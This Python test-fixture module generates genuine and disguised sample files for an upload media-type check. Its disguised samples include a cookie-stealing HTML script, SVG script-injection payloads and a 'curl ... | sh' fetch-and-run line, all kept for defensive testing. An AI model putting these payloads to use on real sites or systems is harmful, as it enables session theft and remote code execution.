"""A small corpus of files for the upload checks, made here so the repository ships none.

Each sample is what a phone, recorder, browser or office program really writes at the
start of such a file (the start is all the check reads): the standard library makes the
WAV and the zip containers, the rest are minimal headers written by hand from the formats'
specifications. ``GENUINE`` pairs each accepted media type with files that must be taken;
``DISGUISED`` pairs files with a media type they must be refused under.
"""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable

# --- audio -------------------------------------------------------------------------------


def wav(sample_width: int = 2, rate: int = 8000, frames: int = 800) -> bytes:
    """A PCM WAV, as the standard library (and any recorder) writes it."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(sample_width)
        recording.setframerate(rate)
        recording.writeframes(b"\x00" * sample_width * frames)
    return buffer.getvalue()


def mp3_frame(header: bytes = b"\xff\xfb\x90\x64") -> bytes:
    """One MPEG audio frame header and its (silent) body."""
    return header + b"\x00" * 413


def mp3_with_id3(version: int = 4) -> bytes:
    """An ID3v2 tag (one TIT2 title frame) before the first frame, as most MP3s start."""
    title = b"\x03Walk interview"
    frame = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
    tag = b"ID3" + bytes([version, 0, 0]) + _syncsafe(len(frame)) + frame
    return tag + mp3_frame()


def _syncsafe(size: int) -> bytes:
    return bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])


def _ogg_page(packet: bytes) -> bytes:
    """The first page of an Ogg stream (beginning-of-stream flag, one segment)."""
    return (
        b"OggS\x00\x02"
        + b"\x00" * 8  # granule position
        + b"\x01\x00\x00\x00"  # serial number
        + b"\x00" * 4  # page sequence
        + b"\x00" * 4  # checksum (not checked by a sniffer)
        + bytes([1, len(packet)])
        + packet
    )


def ogg_vorbis() -> bytes:
    return _ogg_page(b"\x01vorbis" + b"\x00" * 4 + b"\x01" + struct.pack("<I", 44100) + b"\0" * 14)


def ogg_opus() -> bytes:
    """What WhatsApp voice notes and Firefox's recorder write."""
    return _ogg_page(b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00")


def m4a(brand: bytes = b"M4A ", compatible: bytes = b"M4A mp42isom") -> bytes:
    return iso_media(brand, compatible, b"moov")


def flac() -> bytes:
    streaminfo = b"\x10\x00\x10\x00" + b"\x00" * 6 + b"\x0a\xc4\x42\xf0" + b"\x00" * 24
    return b"fLaC" + b"\x80\x00\x00\x22" + streaminfo


def _ebml_element(element_id: bytes, payload: bytes) -> bytes:
    return element_id + bytes([0x80 | len(payload)]) + payload


def webm(doc_type: bytes = b"webm") -> bytes:
    """An EBML header naming its document type, as a browser's MediaRecorder writes it."""
    header = (
        _ebml_element(b"\x42\x86", b"\x01")  # EBMLVersion
        + _ebml_element(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + _ebml_element(b"\x42\xf2", b"\x04")  # EBMLMaxIDLength
        + _ebml_element(b"\x42\xf3", b"\x08")  # EBMLMaxSizeLength
        + _ebml_element(b"\x42\x82", doc_type)  # DocType
        + _ebml_element(b"\x42\x87", b"\x04")  # DocTypeVersion
        + _ebml_element(b"\x42\x85", b"\x02")  # DocTypeReadVersion
    )
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x00" * 64
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + segment


# --- the ISO base media format (MP4, M4A, MOV, HEIF) -------------------------------------


def iso_media(brand: bytes, compatible: bytes = b"", then: bytes = b"mdat") -> bytes:
    """A ``ftyp`` box with its major and compatible brands, then the next box's header."""
    box = b"ftyp" + brand + b"\x00\x00\x02\x00" + compatible
    return struct.pack(">I", 4 + len(box)) + box + b"\x00\x00\x00\x08" + then + b"\x00" * 64


def quicktime_without_ftyp(first_atom: bytes = b"wide") -> bytes:
    """Older QuickTime files start straight with an atom (``wide`` then ``mdat``)."""
    return b"\x00\x00\x00\x08" + first_atom + b"\x00\x00\x10\x00mdat" + b"\x00" * 64


# --- images ------------------------------------------------------------------------------


def png() -> bytes:
    """A real 1x1 grey PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x80")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg(marker: bytes = b"\xe0") -> bytes:
    """SOI, then the first segment: APP0 (JFIF), APP1 (Exif, phones), DQT (some cameras)."""
    payloads = {
        b"\xe0": b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
        b"\xe1": b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00",
        b"\xdb": b"\x00" + bytes(range(1, 65)),
        b"\xee": b"Adobe\x00\x64\x00\x00\x00\x00\x01",
    }
    payload = payloads[marker]
    return b"\xff\xd8\xff" + marker + struct.pack(">H", len(payload) + 2) + payload + b"\xff\xd9"


def gif(version: bytes = b"89a") -> bytes:
    """A 1x1 GIF with a two-colour table and one pixel."""
    return (
        b"GIF"
        + version
        + b"\x01\x00\x01\x00\x80\x00\x00"
        + b"\x00\x00\x00\xff\xff\xff"
        + b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"
    )


def webp(chunk: bytes = b"VP8 ") -> bytes:
    """A RIFF WebP: lossy (``VP8 ``), lossless (``VP8L``) or extended (``VP8X``)."""
    payloads = {
        b"VP8 ": b"\x30\x01\x00\x9d\x01\x2a\x01\x00\x01\x00" + b"\x00" * 8,
        b"VP8L": b"\x2f\x00\x00\x00\x00" + b"\x00" * 8,
        b"VP8X": b"\x10\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    }
    body = chunk + struct.pack("<I", len(payloads[chunk])) + payloads[chunk]
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def avi() -> bytes:
    """A RIFF file that is neither a WAV nor a WebP."""
    body = b"LIST" + struct.pack("<I", 4) + b"hdrl"
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"AVI " + body + b"\x00" * 40


# --- documents ---------------------------------------------------------------------------

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
)


def _zip(entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries:
            # ODF's first entry must be stored, not compressed, so it can be read in place.
            method = zipfile.ZIP_STORED if name == "mimetype" else compression
            archive.writestr(zipfile.ZipInfo(name, (2024, 5, 1, 10, 0, 0)), content, method)
    return buffer.getvalue()


_OOXML_PART = {
    "docx": "word/document.xml",
    "xlsx": "xl/workbook.xml",
    "pptx": "ppt/presentation.xml",
}


def ooxml(kind: str, order: str = "word") -> bytes:
    """An Office Open XML package, its parts in the order Microsoft Office or LibreOffice
    writes them: Office puts ``[Content_Types].xml`` first, LibreOffice ``_rels/.rels``,
    openpyxl ``docProps/app.xml``."""
    main = (_OOXML_PART[kind], b"<?xml version='1.0'?><document/>" * 4)
    if order == "word":
        entries = [("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS), main]
    elif order == "docProps":  # openpyxl
        entries = [
            ("docProps/app.xml", b"<Properties/>" * 6),
            ("docProps/core.xml", b"<cp:coreProperties/>" * 6),
            ("xl/theme/theme1.xml", b"<a:theme/>" * 40),
            main,
            ("_rels/.rels", _RELS),
            ("[Content_Types].xml", _CONTENT_TYPES),
        ]
    else:
        entries = [
            ("_rels/.rels", _RELS),
            ("docProps/core.xml", b"<cp:coreProperties/>" * 6),
            ("docProps/app.xml", b"<Properties/>" * 6),
            main,
            ("[Content_Types].xml", _CONTENT_TYPES),
        ]
    return _zip(entries)


_ODF_MIME = {
    "odt": b"application/vnd.oasis.opendocument.text",
    "ods": b"application/vnd.oasis.opendocument.spreadsheet",
    "odp": b"application/vnd.oasis.opendocument.presentation",
}


def odf(kind: str) -> bytes:
    """An OpenDocument package: its ``mimetype`` entry first and stored, as ODF requires."""
    return _zip(
        [
            ("mimetype", _ODF_MIME[kind]),
            ("content.xml", b"<office:document-content/>" * 4),
            ("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ]
    )


def plain_zip() -> bytes:
    return _zip([("notes.txt", b"not an office document\n" * 10), ("x.bin", b"\x00" * 64)])


def jar() -> bytes:
    return _zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe")])


def epub() -> bytes:
    return _zip([("mimetype", b"application/epub+zip"), ("content.opf", b"<package/>")])


def ooxml_lookalike() -> bytes:
    """A zip whose first entry is ``[Content_Types].xml`` but that holds no document."""
    return _zip([("[Content_Types].xml", _CONTENT_TYPES), ("payload.js", b"alert(1)\n" * 20)])


TEXT = "Minutes of the walk group: café, library, the bench by the lock.\n".encode() * 4
CSV = "name,place\nMargaret,the canal path\nJoe,the café\n".encode()
MARKDOWN = b"# Walk group\n\n- the bench by the lock\n- the *library*\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
UTF16_TEXT = "Minutes".encode("utf-16")  # starts FF FE, which looks like an MPEG frame sync


# --- the corpus --------------------------------------------------------------------------

_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
_ODT = "application/vnd.oasis.opendocument.text"
_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_ODP = "application/vnd.oasis.opendocument.presentation"

Maker = Callable[[], bytes]

GENUINE: dict[str, dict[str, Maker]] = {
    "audio/mpeg": {
        "ID3v2.4 tag then frame": mp3_with_id3,
        "ID3v2.3 tag then frame": lambda: mp3_with_id3(3),
        "MPEG-1 layer III frame": mp3_frame,
        "MPEG-1 layer III frame with CRC": lambda: mp3_frame(b"\xff\xfa\x90\x64"),
        "MPEG-2 layer III frame": lambda: mp3_frame(b"\xff\xf3\x90\x64"),
        "MPEG-2.5 layer III frame": lambda: mp3_frame(b"\xff\xe3\x90\x64"),
        "MPEG-1 layer II frame": lambda: mp3_frame(b"\xff\xfd\x90\x64"),
    },
    "audio/mp4": {
        "M4A brand (iPhone voice memo)": m4a,
        "mp42 brand (Android recorder)": lambda: m4a(b"mp42", b"isommp42"),
        "isom brand (ffmpeg)": lambda: m4a(b"isom", b"isomiso2mp41"),
    },
    "audio/ogg": {"Vorbis": ogg_vorbis, "Opus": ogg_opus},
    "audio/wav": {"16-bit PCM": wav, "8-bit PCM": lambda: wav(1)},
    "audio/webm": {"browser recording": webm},
    "audio/flac": {"STREAMINFO": flac},
    "image/jpeg": {
        "JFIF": jpeg,
        "Exif (phone camera)": lambda: jpeg(b"\xe1"),
        "DQT first": lambda: jpeg(b"\xdb"),
        "Adobe": lambda: jpeg(b"\xee"),
    },
    "image/png": {"1x1": png},
    "image/webp": {
        "lossy": webp,
        "lossless": lambda: webp(b"VP8L"),
        "extended": lambda: webp(b"VP8X"),
    },
    "image/gif": {"GIF89a": gif, "GIF87a": lambda: gif(b"87a")},
    "image/heic": {
        "heic brand (iPhone)": lambda: iso_media(b"heic", b"mif1heic", b"meta"),
        "mif1 brand, heic compatible (Samsung)": lambda: iso_media(b"mif1", b"mif1heic", b"meta"),
        "heix brand": lambda: iso_media(b"heix", b"mif1heix", b"meta"),
    },
    "image/heif": {"mif1 brand": lambda: iso_media(b"mif1", b"mif1miaf", b"meta")},
    "video/mp4": {
        "isom brand (ffmpeg)": lambda: iso_media(b"isom", b"isomiso2avc1mp41"),
        "mp42 brand (phones)": lambda: iso_media(b"mp42", b"mp42isom"),
        "mp41 brand": lambda: iso_media(b"mp41", b"mp41"),
        "avc1 brand": lambda: iso_media(b"avc1", b"avc1isom"),
        "M4V brand (iTunes)": lambda: iso_media(b"M4V ", b"M4V M4A mp42isom"),
        "dash brand": lambda: iso_media(b"dash", b"iso6mp41"),
        "XAVC brand (Sony camera)": lambda: iso_media(b"XAVC", b"XAVCmp42iso2"),
        "iso5 brand, no MP4 brand beside it": lambda: iso_media(b"iso5", b"iso5dash"),
    },
    "video/webm": {"browser recording": webm},
    "video/quicktime": {
        "qt brand (iPhone)": lambda: iso_media(b"qt  ", b"qt  "),
        "no ftyp, wide atom first": quicktime_without_ftyp,
        "no ftyp, moov atom first": lambda: quicktime_without_ftyp(b"moov"),
    },
    "application/pdf": {"PDF 1.7": lambda: PDF},
    "text/plain": {"UTF-8": lambda: TEXT, "ASCII": lambda: b"Walk at ten.\n"},
    "text/csv": {"UTF-8": lambda: CSV},
    "text/markdown": {"UTF-8": lambda: MARKDOWN},
    _DOCX: {"Word": lambda: ooxml("docx"), "LibreOffice": lambda: ooxml("docx", "libre")},
    _XLSX: {
        "Excel": lambda: ooxml("xlsx"),
        "LibreOffice": lambda: ooxml("xlsx", "libre"),
        "openpyxl": lambda: ooxml("xlsx", "docProps"),
    },
    _PPTX: {
        "PowerPoint": lambda: ooxml("pptx"),
        "LibreOffice": lambda: ooxml("pptx", "libre"),
    },
    _ODT: {"LibreOffice": lambda: odf("odt")},
    _ODS: {"LibreOffice": lambda: odf("ods")},
    _ODP: {"LibreOffice": lambda: odf("odp")},
}
"""Every media type coprod accepts, with files of it that must be taken."""

DISGUISED: list[tuple[str, str, Maker]] = [
    ("HTML page", "image/png", lambda: HTML),
    ("HTML page", "image/jpeg", lambda: HTML),
    ("HTML page", "audio/wav", lambda: HTML),
    ("HTML page", "application/pdf", lambda: HTML),
    ("HTML page", _DOCX, lambda: HTML),
    ("SVG with a script", "image/png", lambda: SVG),
    ("SVG with a script", "image/webp", lambda: SVG),
    ("shell script", "audio/mpeg", lambda: SCRIPT),
    ("Windows executable", "video/mp4", lambda: EXE),
    ("Windows executable", "application/pdf", lambda: EXE),
    ("Linux executable", "audio/mpeg", lambda: ELF),
    ("PNG", "audio/wav", png),
    ("PNG", "audio/mpeg", png),
    ("PNG", "image/jpeg", png),
    ("JPEG", "image/png", jpeg),
    ("GIF", "image/jpeg", gif),
    ("MP3", "audio/wav", mp3_with_id3),
    ("FLAC", "audio/mpeg", flac),
    ("Ogg", "audio/wav", ogg_vorbis),
    ("WAV", "image/webp", wav),
    ("WebP", "audio/wav", webp),
    ("AVI", "audio/wav", avi),
    ("AVI", "image/webp", avi),
    ("PDF", "text/plain", lambda: PDF),
    ("UTF-16 text", "audio/mpeg", lambda: UTF16_TEXT),
    ("UTF-16 text", "text/plain", lambda: UTF16_TEXT),
    ("text with a NUL", "text/csv", lambda: b"a,b\x00c\n"),
    ("MP4 video", "image/heic", lambda: iso_media(b"isom", b"isomavc1")),
    ("HEIC photo", "video/mp4", lambda: iso_media(b"heic", b"mif1heic", b"meta")),
    ("HEIC photo", "video/quicktime", lambda: iso_media(b"heic", b"mif1heic", b"meta")),
    ("Matroska video", "audio/webm", lambda: webm(b"matroska")),
    ("zip of other files", _DOCX, plain_zip),
    ("zip of other files", _XLSX, plain_zip),
    ("zip of other files", _ODT, plain_zip),
    ("Java archive", _DOCX, jar),
    ("EPUB", _ODT, epub),
    ("zip with only [Content_Types].xml", _DOCX, ooxml_lookalike),
    ("Word document", _XLSX, lambda: ooxml("docx")),
    ("Word document", _PPTX, lambda: ooxml("docx")),
    ("Excel workbook", _DOCX, lambda: ooxml("xlsx")),
    ("Word document", _ODT, lambda: ooxml("docx")),
    ("OpenDocument text", _ODS, lambda: odf("odt")),
    ("OpenDocument text", _DOCX, lambda: odf("odt")),
    ("HTML, then a PDF header", "application/pdf", lambda: HTML + b"\n" + PDF),
    ("PDF with a zip appended", _DOCX, lambda: PDF + ooxml("docx")),
    ("PNG with a zip appended", _DOCX, lambda: png() + ooxml("docx")),
    ("HEIC photo of the heix brand", "video/mp4", lambda: iso_media(b"heix", b"mif1heix")),
    ("AVIF photo", "image/heic", lambda: iso_media(b"avif", b"mif1avif", b"meta")),
    ("AVIF photo", "video/mp4", lambda: iso_media(b"avif", b"mif1avif", b"meta")),
]
"""Files that must be refused under the media type they are declared as."""
